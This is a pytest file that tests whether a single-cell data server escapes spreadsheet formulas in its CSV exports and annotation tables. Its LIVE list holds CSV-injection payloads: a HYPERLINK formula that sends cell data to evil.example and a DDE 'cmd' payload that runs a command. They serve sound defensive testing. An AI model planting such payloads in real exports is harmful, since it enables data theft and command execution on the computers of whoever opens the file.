"""No table has a formula: not of names, not of values, not of headers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from h5ad_file import Categorical, write_h5ad

N = 12
LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
CSV = {"Accept": "text/csv"}


@pytest.fixture
def client(serve, tmp_path):
    path = write_h5ad(
        tmp_path / "live.h5ad",
        np.random.default_rng(0).poisson(2, (N, 4)).astype(np.float32),
        obs={
            "=type": Categorical(np.arange(N, dtype=np.int8) % 4, LIVE),
            "text": np.array([f"{LIVE[i % 4]}{i}" for i in range(N)], dtype=object),
            "age": -np.arange(N) / 7,
        },
        genes=LIVE,
        obsm={"X_umap": np.zeros((N, 2), np.float32)},
    )
    return serve(path, answer_wait=60.0, data_dir=str(tmp_path / "data"))


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if not cell.startswith("#")]


def is_live(cell):
    try:
        float(cell)
    except ValueError:
        return cell.startswith(tuple("=+-@\t\r"))
    return False


@pytest.mark.parametrize(
    "path", ["obs/%3Dtype", "obs/text", "obs/age", "expression?gene=%2D2%2B3", "expression?genes=@SUM(1%2B1)"]
)
def test_columns(client, path):
    answer = client.get(path, headers=CSV)
    assert answer.status_code == 200, answer.text
    assert answer.mimetype == "text/csv"
    assert not [cell for cell in cells(answer.text) if is_live(cell)]


def test_results_names_and_annotations(client):
    body = {"a": {"ranges": [[0, 5]]}, "b": "rest"}
    job = client.post("diffexp", body).json["job_id"]
    client.open("annotations/%3Dmine", method="PUT", json={"labels": [{"name": name} for name in LIVE]})
    client.post("annotations/%3Dmine/assign", {"label": LIVE[0], "selection": {"ranges": [[0, 5]]}})
    tables = [
        client.get(f"jobs/{job}", headers=CSV),
        client.get("annotations/%3Dmine", headers=CSV),
        client.get("export/annotations.csv"),
        client.post("cells/names", {"selection": {"ranges": [[0, N]]}}),
        client.post("cells/table", {}),
    ]
    for answer in tables:
        assert answer.status_code == 200, answer.text
        found = cells(answer.text)
        assert len(found) > 4
        assert not [cell for cell in found if is_live(cell)]
